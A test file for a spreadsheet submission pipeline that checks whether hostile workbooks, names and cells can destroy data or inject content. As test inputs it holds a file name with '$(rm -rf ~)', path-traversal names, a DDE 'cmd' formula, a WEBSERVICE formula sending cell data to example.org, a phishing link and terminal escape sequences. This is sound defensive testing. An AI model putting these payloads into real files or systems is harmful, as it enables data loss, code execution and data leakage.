@@ -1,0 +1,519 @@
+"""Untrusted input never costs data: one test per way a file, a name or a cell broke that promise.
+
+Each file is built in code, the way another program or an attacker writes it. The promise: bad
+input gets a clear finding at its cell (or one plain line when the command cannot run), every
+file gets its verdict, nothing that was there before is lost, and nothing the pipeline writes
+replays what a submitter typed as something that executes.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import duckdb
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from rich.console import Console
+
+from pipeline import api, safe, serials
+from pipeline.annotate import MAX_LISTED, annotate_many, write_annotated
+from pipeline.cli import main
+from pipeline.findings import finding
+from pipeline.guard import Limits
+from pipeline.read import read_many
+from pipeline.reports import print_summary, report_folders
+from pipeline.validate import Submission
+from tests import hostile, odd_files
+from tests.builders import set_cell, valid_sheets, write_workbook
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+@pytest.fixture
+def inputs(tmp_path: Path) -> Path:
+    (tmp_path / "inputs" / "submissions").mkdir(parents=True)
+    return tmp_path / "inputs"
+
+
+def gtb_run(inputs: Path) -> int:
+    out = inputs.parent / "out"
+    return main(["run", "--inputs", str(inputs), "--db", str(out / "gtb.duckdb"), "--outputs", str(out), "--jobs", "1"])
+
+
+def query(db: Path, sql: str) -> list[tuple]:
+    with duckdb.connect(str(db), read_only=True) as con:
+        return con.execute(sql).fetchall()
+
+
+def issues(folder: Path) -> list[dict[str, str]]:
+    with (folder / "issues.csv").open(newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+def sha(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def without_root_powers() -> list[str]:
+    """A command prefix under which file permissions bind, even for root (tests may run as root)."""
+    if os.geteuid() != 0:
+        return []
+    return ["setpriv", "--bounding-set=-dac_override,-dac_read_search", "--inh-caps=-all"]
+
+
+def gtb_process(*args: str, cwd: Path) -> subprocess.CompletedProcess:
+    command = [*without_root_powers(), sys.executable, "-m", "pipeline.cli", *args]
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, env=env, timeout=300)
+
+
+# --- 1. a file name never deletes anything ----------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["...xlsx", "..xlsx", ".xlsx", "..\\..\\x.xlsx", "$(rm -rf ~).xlsx", "\u202egnp.xlsx"])
+def test_odd_file_names_remove_nothing(inputs, name):
+    good = write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    assert gtb_run(inputs) == 0
+    out = inputs.parent / "out"
+    before = {p: sha(p) for p in out.rglob("*") if p.is_file()}
+    odd = inputs / "submissions" / name
+    odd.write_bytes(good.read_bytes()[:-10])  # damaged: a rejection with a report
+    assert gtb_run(inputs) == 1
+    after = {p for p in out.rglob("*") if p.is_file()}
+    assert set(before) <= after, "a report or the database was removed"
+    assert query(out / "gtb.duckdb", "SELECT count(*) FROM facilities_activity") == [(3,)]
+    [rejected] = query(out / "gtb.duckdb", "SELECT report_path FROM submissions WHERE status = 'rejected'")
+    folder = Path(rejected[0])
+    assert folder.parent == out / "validation" and folder.name.strip("._-") and (folder / "issues.csv").exists()
+
+
+def test_validate_with_a_dot_name_keeps_the_outputs_folder(tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    sentinel = tmp_path / "outputs" / "gtb.duckdb"
+    sentinel.parent.mkdir()
+    sentinel.write_bytes(b"the analyst's database")
+    (tmp_path / "...xlsx").write_bytes(b"PK\x03\x04 not a workbook")
+    assert main(["validate", "./...xlsx"]) == 1
+    assert sentinel.read_bytes() == b"the analyst's database"
+    [folder] = (tmp_path / "outputs" / "validation").iterdir()
+    assert folder.name.startswith("file_") and issues(folder)[0]["code"] == "unreadable-file"
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(min_size=0, max_size=40), min_size=1, max_size=6), st.booleans())
+def test_report_folders_stay_inside_and_never_collide(stems, known):
+    report_dir = Path("/tmp/gtb-reports-property")
+    subs = [
+        Submission(path=f"/in/{i}/{stem}.xlsx", file_name=f"{stem}.xlsx", entity_code="UNEP" if known else None, reporting_year=2024 if known else None)
+        for i, stem in enumerate(stems)
+    ]
+    folders = report_folders(subs, report_dir)
+    names = [folders[i].name for i in range(len(subs))]
+    assert len({n.lower() for n in names}) == len(names)
+    for folder in folders.values():
+        assert folder.parent == report_dir and folder.name.strip("._-") and set(folder.name) <= set(
+            "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-"
+        )
+
+
+# --- 2 and 7. non-finite and absurd numbers are findings at their cell --------------------------
+
+
+@pytest.mark.parametrize(
+    ("stored", "code"),
+    [("inf", "type-error"), ("-inf", "type-error"), ("NaN", "type-error"), ("1e308", "out-of-range"), ("1E+300", "out-of-range")],
+)
+def test_non_finite_and_absurd_quantities_are_findings(tmp_path, stored, code):
+    source = write_workbook(tmp_path / "src.xlsx", valid_sheets("UNEP"))
+    path = tmp_path / "odd.xlsx"
+    path.write_bytes(odd_files.raw_value(source.read_bytes(), "Facilities", "D3", stored))
+    [sub] = api.check_files([path], jobs=1)
+    assert [(f.sheet, f.cell, f.code) for f in sub.findings] == [("Facilities", "D3", code)]
+
+
+@pytest.mark.parametrize(
+    ("sheet", "cell", "value"),
+    [("Entity", "B4", 3_000_000_000), ("Entity", "B4", 2**63), ("Entity", "B4", 10**30), ("AirTravel", "E2", 2**40), ("Offsets", "D2", 2**63)],
+)
+def test_integers_beyond_the_warehouse_types_are_out_of_range(tmp_path, sheet, cell, value):
+    path = write_workbook(tmp_path / "big.xlsx", set_cell(valid_sheets("UNEP"), sheet, cell, value))
+    [sub] = api.check_files([path], jobs=1)
+    assert [(f.sheet, f.cell, f.code) for f in sub.findings] == [(sheet, cell, "out-of-range")]
+
+
+def test_every_numeric_column_has_an_upper_bound_within_its_warehouse_type():
+    from schemas import contract
+
+    for spec in contract.sheets():
+        for col in spec.columns:
+            if not col.is_numeric:
+                continue
+            assert col.le, f"{spec.name}.{col.name} has no upper bound"
+            assert col.bound_note, f"{spec.name}.{col.name}: give the reason of its bounds"
+            if col.dtype == "integer" and col.le.isdigit():
+                assert int(col.le) < 2**31, f"{spec.name}.{col.name} may exceed the warehouse INTEGER"
+
+
+def test_a_run_with_an_infinite_quantity_loads_the_others_and_every_figure_is_finite(inputs):
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    source = write_workbook(inputs.parent / "src.xlsx", valid_sheets("WFP"))
+    (inputs / "submissions" / "WFP_2024.xlsx").write_bytes(odd_files.raw_value(source.read_bytes(), "Facilities", "D2", "inf"))
+    assert gtb_run(inputs) == 1
+    db = inputs.parent / "out" / "gtb.duckdb"
+    with duckdb.connect(str(db), read_only=True) as con:
+        for view in ("entity_indicators", "system_indicators", "submission_totals", "entity_year", "emissions"):
+            columns = [r[0] for r in con.execute(f"DESCRIBE {view}").fetchall() if r[1] in ("DOUBLE", "FLOAT")]
+            for column in columns:
+                bad = con.execute(f"SELECT count(*) FROM {view} WHERE NOT isfinite({column})").fetchall()[0][0]
+                assert bad == 0, f"{view}.{column}"
+    assert main(["indicators", "--year", "2024", "--db", str(db), "--json"]) == 0
+
+
+# --- 3. one credit block, however written, counts once ---------------------------------------
+
+LOOKALIKES = {
+    "-": ["\u2010", "\u2011", "\u2012", "\u2013", "\u2014", "\u2015", "\u2212", "\uff0d", " - ", "\u00a0-\u00a0"],
+}
+
+
+def look_alike(serial: str, choice: int) -> str:
+    """The serial as a registry web page or a PDF hands it over."""
+    dash = LOOKALIKES["-"][choice % len(LOOKALIKES["-"])]
+    text = serial.replace("-", dash)
+    if choice % 3 == 0:
+        text = "".join(chr(ord(c) + 0xFEE0) if c.isalnum() and c.isascii() else c for c in text)  # full width
+    if choice % 2:
+        text = "\u00a0" + text.lower() + "\u200b"
+    return text
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    prefix=st.lists(st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", min_size=1, max_size=6), min_size=1, max_size=4),
+    start=st.integers(0, 10**8),
+    length=st.integers(0, 10**6),
+    choice=st.integers(0, 60),
+)
+def test_look_alike_spellings_are_one_serial(prefix, start, length, choice):
+    digits = len(str(start + length))
+    serial = "-".join([*prefix, str(start).zfill(digits), str(start + length).zfill(digits)])
+    variant = look_alike(serial, choice)
+    assert serials.normalise(variant) == serials.normalise(serial)
+    assert serials.overlap(serials.parse(variant), serials.parse(serial))
+
+
+@settings(max_examples=300, deadline=None)
+@given(a=st.integers(0, 1000), la=st.integers(0, 50), b=st.integers(0, 1000), lb=st.integers(0, 50))
+def test_ranges_of_one_block_overlap_exactly_when_they_share_a_serial(a, la, b, lb):
+    first = serials.parse(f"CER-UNEP-2024-{a:06d}-{a + la:06d}")
+    second = serials.parse(f"CER-UNEP-2024-{b:06d}-{b + lb:06d}")
+    shares = max(a, b) <= min(a + la, b + lb)
+    assert serials.overlap(first, second) == shares
+    other_block = serials.parse(f"CER-UNDP-2024-{b:06d}-{b + lb:06d}")
+    assert not serials.overlap(first, other_block)
+
+
+@pytest.mark.parametrize(
+    ("held", "claimed"),
+    [
+        ("7837-438577047-438577546-VCS-VCU-997-VER-IN-14-1748-01012018-31122018-0", "7837-438577500-438577600-VCS-VCU-997-VER-IN-14-1748-01012018-31122018-0"),
+        ("GS1-1-IN-GS2445-16-2018-19136-22500-22511", "GS1-1-IN-GS2445-16-2018-19136-22511-22600"),
+        ("BR-5-123456-1-1-0-1234 - BR-5-123999-1-1-0-1234", "BR-5-123500-1-1-0-1234"),
+        ("CER-UNEP-2024-000001-005000", "CER\u2010UNEP\u20132024\u2212000001-005000\u200b"),
+    ],
+)
+def test_registry_forms_are_read_as_ranges(held, claimed):
+    assert serials.overlap(serials.parse(held), serials.parse(claimed))
+    assert serials.overlap(serials.parse(claimed), serials.parse(held))
+
+
+def test_one_block_written_four_ways_in_one_workbook_counts_once(tmp_path):
+    sheets = valid_sheets("UNEP")
+    block = "CER-UNEP-2024-000001-005000"
+    row = sheets["Offsets"][1]
+    for i, spelling in enumerate([look_alike(block, 1), look_alike(block, 3), look_alike(block, 6)], start=3):
+        sheets["Offsets"].append([row[0], row[1], spelling, row[3], row[4], row[5]])
+        assert i
+    path = write_workbook(tmp_path / "four.xlsx", sheets)
+    [sub] = api.check_files([path], jobs=1)
+    assert [(f.cell, f.code) for f in sub.findings] == [("C3", "duplicate-serial"), ("C4", "duplicate-serial"), ("C5", "duplicate-serial")]
+
+
+def test_overlapping_ranges_across_entities_and_runs_are_duplicate_serials(inputs):
+    unep = valid_sheets("UNEP")
+    unep["Offsets"][1][2] = "CER-XYZ-2024-000001-005000"
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", unep)
+    assert gtb_run(inputs) == 0
+    wfp = valid_sheets("WFP")
+    wfp["Offsets"][1][2] = "cer\u2013xyz\u20132024\u2212004000\u2010009000"  # overlaps 4000-5000
+    write_workbook(inputs / "submissions" / "WFP_2024.xlsx", wfp)
+    assert gtb_run(inputs) == 1
+    db = inputs.parent / "out" / "gtb.duckdb"
+    assert query(db, "SELECT entity_code, status FROM submissions ORDER BY 1") == [("UNEP", "loaded"), ("WFP", "rejected")]
+    [(message,)] = query(db, "SELECT message FROM findings WHERE code = 'duplicate-serial'")
+    assert "overlaps CER-XYZ-2024-000001-005000" in message and "UNEP 2024" in message
+    assert query(db, "SELECT sum(quantity_tco2e) FROM offsets") == [(5000.0,)]
+
+
+# --- 4 and 5. one odd workbook never hides the others -----------------------------------------
+
+
+def test_workbooks_openpyxl_cannot_open_keep_their_verdict_and_the_good_one_loads(inputs):
+    folder = inputs / "submissions"
+    entities = ["UNDP", "UNICEF", "UNHCR", "WHO", "FAO", "ILO", "UNESCO", "UNFPA", "UNOPS", "IAEA", "ICAO"]
+    for (mutation, entity) in zip(odd_files.MUTATIONS, entities, strict=True):
+        odd_files.mutated(folder, f"{entity}_{mutation}.xlsx", mutation, entity)
+    write_workbook(folder / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    assert gtb_run(inputs) == 1
+    db = inputs.parent / "out" / "gtb.duckdb"
+    rows = query(db, "SELECT file_name, status, report_path FROM submissions ORDER BY file_name")
+    assert len(rows) == len(odd_files.MUTATIONS) + 1
+    assert [r[:2] for r in rows if r[1] == "loaded"] == [("UNEP_2024.xlsx", "loaded")]
+    for name, status, report in rows:
+        if status == "rejected":
+            assert (Path(report) / "issues.csv").exists(), name
+            annotated = load_workbook(Path(report) / "annotated.xlsx")
+            assert annotated.sheetnames[0] == "Validation summary", name
+
+
+@pytest.mark.parametrize("mutation", ["huge-merge", "huge-hyperlink"])
+def test_a_range_over_the_whole_sheet_gets_a_findings_only_copy(tmp_path, mutation):
+    path = odd_files.mutated(tmp_path, "odd.xlsx", mutation)
+    [sub] = api.check_files([path], jobs=1)
+    out = tmp_path / "annotated.xlsx"
+    outcome = annotate_many([(path, sub.findings, out)])
+    assert outcome[out].startswith("findings-only")
+    wb = load_workbook(out)
+    assert wb.sheetnames == ["Validation summary"]
+    assert "could not be made" in wb.active["A5"].value and wb.active["B8"].value == "E2"
+
+
+def test_a_copy_that_runs_out_of_memory_costs_only_its_copy(tmp_path, monkeypatch):
+    """The worker's memory cap stops openpyxl building a huge range the guard did not flag."""
+    from pipeline import annotate
+
+    monkeypatch.setattr(annotate, "MAX_RANGE_CELLS", 10**12)  # let the range through to openpyxl
+    path = odd_files.mutated(tmp_path, "odd.xlsx", "huge-merge")
+    [sub] = api.check_files([path], jobs=1)
+    out = tmp_path / "annotated.xlsx"
+    outcome = annotate_many([(path, sub.findings, out)], limits=Limits(reader_memory_bytes=512 * 2**20, reader_timeout_s=30))
+    assert outcome[out].startswith("findings-only")
+    assert load_workbook(out).sheetnames == ["Validation summary"]
+
+
+def test_at_most_a_bounded_number_of_findings_are_marked(tmp_path):
+    sheets = valid_sheets("UNEP")
+    for i in range(3000):
+        sheets["Refrigerants"].append(["Site", "KEN", "r410a", f"{i} kg", "measured"])
+    path = write_workbook(tmp_path / "many.xlsx", sheets)
+    [sub] = api.check_files([path], jobs=1)
+    assert len(sub.findings) == 3000
+    out = write_annotated(path, sub.findings, tmp_path / "annotated.xlsx")
+    wb = load_workbook(out)
+    summary = wb["Validation summary"]
+    assert summary.max_row == 7 + MAX_LISTED and f"first {MAX_LISTED:,} of 3,000" in summary["A5"].value
+    marked = [c for c in wb["Refrigerants"]["D"] if c.comment is not None]
+    assert len(marked) == MAX_LISTED
+
+
+# --- 6. an unreadable file is a finding in gtb run too ----------------------------------------
+
+
+def test_unreadable_file_is_a_finding_and_the_others_load(inputs):
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    locked = write_workbook(inputs / "submissions" / "WFP_2024.xlsx", valid_sheets("WFP"))
+    locked.chmod(0)
+    out = inputs.parent / "out"
+    done = gtb_process("run", "--inputs", str(inputs), "--db", str(out / "gtb.duckdb"), "--outputs", str(out), cwd=inputs.parent)
+    locked.chmod(0o644)
+    assert done.returncode == 1, done.stderr
+    assert "internal error" not in done.stderr
+    rows = query(out / "gtb.duckdb", "SELECT s.file_name, s.status, f.code FROM submissions s LEFT JOIN findings f USING (submission_id) ORDER BY 1")
+    assert rows == [("UNEP_2024.xlsx", "loaded", None), ("WFP_2024.xlsx", "rejected", "unreadable-file")]
+
+
+# --- 8. nothing written replays what a submitter typed ----------------------------------------
+
+TRIGGERS = ["=cmd|' /c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_issues_csv_escapes_formula_triggers(tmp_path):
+    found = [finding("type-error", "m", file=t, sheet="Facilities", cell="D2", row=2, column=t, value=t) for t in TRIGGERS]
+    found.append(finding("out-of-range", "m", file="f", sheet="Facilities", cell="D3", row=3, column="quantity", value=-5))
+    from pipeline.findings import write_issues_csv
+
+    with write_issues_csv(found, tmp_path / "issues.csv").open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    for row in rows[1:]:
+        for field in (row[0], row[4], row[5]):
+            assert not field.startswith(safe.FORMULA_TRIGGERS) or field in ("-5", "f"), row
+    assert any(r[5] == "'=cmd|' /c calc'!A1" for r in rows) and any(r[5] == "-5" for r in rows)
+
+
+def test_console_shows_escape_sequences_as_text(tmp_path):
+    source = write_workbook(tmp_path / "src.xlsx", set_cell(valid_sheets("UNEP"), "Facilities", "D2", "PLACEHOLDER"))
+    escaped = b"_x001B_[2J_x001B_[Hall 60 loaded_x000D_"  # how OOXML stores control characters in a text
+    path = tmp_path / "evil\x1b]0;pwned\x07.xlsx"
+    path.write_bytes(odd_files.edit(source.read_bytes(), "xl/worksheets/sheet2.xml", lambda xml: xml.replace(b"PLACEHOLDER", escaped)))
+    subs = api.check_files([path], jobs=1)
+    buffer = io.StringIO()
+    print_summary(subs, console=Console(file=buffer, force_terminal=True, width=300, highlight=False))
+    text = buffer.getvalue()
+    visible = text.replace("\x1b[1m", "").replace("\x1b[0m", "")
+    for code in ("\x1b[2J", "\x1b[H", "\x1b]0;", "\x07", "\r"):
+        assert code not in visible, repr(code)
+    assert "\\x1b[2J" in text and "\\x07" in text
+
+
+def external_link_workbook(path: Path) -> Path:
+    """A submission with an external link part, a DDE formula, a cross-file formula and a web link."""
+    sheets = valid_sheets("UNEP")
+    sheets["Facilities"][1][6] = "estimated typo"  # one finding, so an annotated copy is made
+    wb = Workbook()
+    wb.remove(wb.active)
+    for name, rows in sheets.items():
+        ws = wb.create_sheet(name)
+        for row in rows:
+            ws.append(row)
+    fac = wb["Facilities"]
+    fac["J2"] = "=cmd|' /c calc'!A1"
+    fac["J3"] = "=[1]Sheet1!A1*2"
+    fac["J4"] = "=D2*2"
+    fac["J5"] = '=WEBSERVICE("http://example.org/?"&A1)'
+    fac["K2"].hyperlink = "http://example.org/phish"
+    buffer = io.BytesIO()
+    wb.save(buffer)
+    parts = odd_files.members(buffer.getvalue())
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
+        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook '
+        b'r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
+    )
+    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+        b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>'
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
+    )
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId90"/></externalReferences>'
+    )
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>",
+        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
+        b'officedocument.spreadsheetml.externalLink+xml"/></Types>',
+    )
+    path.write_bytes(odd_files.repack(parts))
+    return path
+
+
+def test_annotated_copy_strips_external_links_dde_and_calls_out(tmp_path):
+    path = external_link_workbook(tmp_path / "linked.xlsx")
+    assert "xl/externalLinks/externalLink1.xml" in odd_files.members(path.read_bytes())
+    [sub] = api.check_files([path], jobs=1)
+    assert sub.findings
+    out = tmp_path / "annotated.xlsx"
+    assert annotate_many([(path, sub.findings, out)])[out] == "annotated"
+    parts = odd_files.members(out.read_bytes())
+    assert not [name for name in parts if "externalLink" in name]
+    everything = b"".join(parts.values())
+    assert b"other.xlsx" not in everything and b'Target="http://example.org/phish"' not in everything
+    fac = load_workbook(out)["Facilities"]
+    for ref in ("J2", "J3", "J5"):
+        assert fac[ref].data_type == "s" and fac[ref].quotePrefix, ref  # inert text, shown as typed
+    assert fac["J4"].data_type == "f" and fac["J4"].value == "=D2*2"  # the focal point's own formula stays
+
+
+# --- 9. a damaged database and a read-only folder get one plain line --------------------------
+
+
+@pytest.mark.parametrize("keep", [100, 12_288, 300_000, -50_000])
+def test_truncated_database_is_reported_and_left_untouched(inputs, capsys, keep):
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    assert gtb_run(inputs) == 0
+    db = inputs.parent / "out" / "gtb.duckdb"
+    data = db.read_bytes()
+    db.write_bytes(data[:keep] if keep > 0 else data[:keep])
+    damaged = db.read_bytes()
+    capsys.readouterr()
+    for argv in (["run", "--inputs", str(inputs), "--db", str(db), "--outputs", str(db.parent)], ["indicators", "--year", "2024", "--db", str(db)]):
+        assert main(argv) == 2
+        err = capsys.readouterr().err
+        assert err.count("\n") == 1 and "internal error" not in err and "left untouched" in err, err
+        assert db.read_bytes() == damaged
+
+
+def test_the_database_header_size_matches_what_the_check_assumes(inputs):
+    from pipeline.warehouse.db import HEADER_BYTES
+
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    gtb_run(inputs)
+    db = inputs.parent / "out" / "gtb.duckdb"
+    [(block_size, blocks)] = query(db, "SELECT block_size, total_blocks FROM pragma_database_size()")
+    assert db.stat().st_size == HEADER_BYTES + block_size * blocks
+
+
+def test_read_only_outputs_folder_is_one_plain_line(inputs):
+    write_workbook(inputs / "submissions" / "UNEP_2024.xlsx", valid_sheets("UNEP"))
+    out = inputs.parent / "out"
+    out.mkdir()
+    out.chmod(0o555)
+    try:
+        done = gtb_process("run", "--inputs", str(inputs), "--outputs", str(out), "--db", str(out / "gtb.duckdb"), cwd=inputs.parent)
+        done_validate = gtb_process("validate", str(inputs / "submissions" / "UNEP_2024.xlsx"), "--report-dir", str(out / "v"), cwd=inputs.parent)
+    finally:
+        out.chmod(0o755)
+    for result in (done, done_validate):
+        assert result.returncode == 2, result.stderr
+        assert result.stderr.count("\n") == 1 and "internal error" not in result.stderr
+        assert "ermission denied" in result.stderr
+    assert not any(out.iterdir())
+
+
+# --- 10. guard scans stay linear ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        '<row r="1">' + '<c t="e" ' * 200_000,
+        '<row r="1">' + '<c r="A1" t="e"><v>#N/A' * 50_000,
+        '<dimension ' * 200_000,
+        '<row r="1">' + '<c r="A1"><f ' * 100_000,
+        '<row r="1">' + '<c a="' * 200_000,
+    ],
+    ids=["unclosed-error-cells", "unclosed-error-values", "unclosed-dimensions", "unclosed-formulas", "open-quotes"],
+)
+def test_pathological_sheet_xml_gets_a_verdict_not_a_timeout(tmp_path, cells):
+    path = hostile.minimal_xlsx(tmp_path / "patho.xlsx", {"Facilities": hostile.sheet_xml(cells)})
+    [(_, result)] = list(read_many([path], jobs=1, limits=Limits(reader_timeout_s=20)))
+    assert getattr(result, "kind", None) != "timeout"
+
+
+def test_error_cells_without_a_reference_are_found(tmp_path):
+    """The exact walk (cells without r=) now finds Excel error cells too."""
+    sheet = hostile.sheet_xml('<row><c><v>1</v></c><c t="e"><v>#DIV/0!</v></c></row>')
+    path = hostile.minimal_xlsx(tmp_path / "noref.xlsx", {"Facilities": sheet})
+    [(_, raw)] = list(read_many([path], jobs=1))
+    assert raw.sheets["Facilities"].error_cells == {"B1": "#DIV/0!"}
+
+
+def test_no_partial_copy_is_left_behind(tmp_path):
+    """annotate writes through a temporary file; none remains after a copy or a fallback."""
+    for mutation in ("empty-style", "garbage-date-cell"):
+        path = odd_files.mutated(tmp_path, f"{mutation}.xlsx", mutation)
+        [sub] = api.check_files([path], jobs=1)
+        annotate_many([(path, sub.findings, tmp_path / mutation / "annotated.xlsx")])
+        assert sorted(p.name for p in (tmp_path / mutation).iterdir()) == ["annotated.xlsx"]
